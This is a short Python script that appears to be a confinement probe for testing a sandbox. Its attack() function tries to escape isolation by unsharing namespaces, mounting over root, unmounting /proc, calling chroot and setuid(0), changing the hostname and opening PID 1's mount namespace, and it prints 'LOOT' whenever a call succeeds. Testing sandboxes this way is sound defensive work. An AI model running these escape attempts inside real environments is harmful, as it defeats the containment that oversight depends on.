# Tries to climb out: mounts, new namespaces, other roots, other users, joined namespaces.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attack():
    for kind in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
        if libc.unshare(kind) == 0: print("LOOT unshare", hex(kind))
    for call in (lambda: libc.mount(b"none", b"/", b"tmpfs", 0, 0), lambda: libc.umount2(os.getcwd().encode(), 2),
                 lambda: libc.chroot(b"."), lambda: libc.setuid(0), lambda: libc.umount2(b"/proc", 2),
                 lambda: libc.sethostname(b"evil", 4)):
        if call() == 0: print("LOOT escape")
    for name in os.listdir("/proc/1"):
        pass
    try: print("LOOT", os.open("/proc/1/ns/mnt", os.O_RDONLY))
    except OSError: pass
